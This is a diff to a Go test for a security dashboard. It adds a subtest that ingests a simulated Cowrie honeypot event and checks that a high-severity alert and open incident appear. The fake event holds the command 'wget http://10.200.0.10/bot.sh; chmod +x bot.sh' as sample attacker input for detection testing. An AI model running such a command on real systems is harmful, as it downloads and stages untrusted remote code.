@@ -47,6 +47,17 @@ func TestPagesDashboard(t *testing.T) {
 		}
 	})
 
+	t.Run("alerts and open incidents", func(t *testing.T) {
+		line := `{"eventid":"cowrie.command.input","input":"wget http://10.200.0.10/bot.sh; chmod +x bot.sh","sensor":"hp",` +
+			`"timestamp":"` + now.Add(-time.Minute).UTC().Format(time.RFC3339Nano) + `","src_ip":"10.200.0.2","session":"s1"}`
+		if r := e.do("POST", "/api/v1/ingest/cowrie", line+"\n", bearer(tok)...); r.status != http.StatusOK {
+			t.Fatalf("ingest cowrie: %d %s", r.status, r.body)
+		}
+		r := e.get(b, "/dashboard")
+		wantContains(t, "dashboard", r.body, "Alerts by severity, last 24 hours", `class="bar sev-high"`,
+			`<a href="/incidents?severity=high&amp;status=open"><span class="badge sev-high">high</span> <strong class="tnum">1</strong>`)
+	})
+
 	t.Run("unknown range falls back to 24 hours", func(t *testing.T) {
 		wantContains(t, "dashboard", e.get(b, "/dashboard?range=forever").body, "Top entities, last 24 hours")
 	})
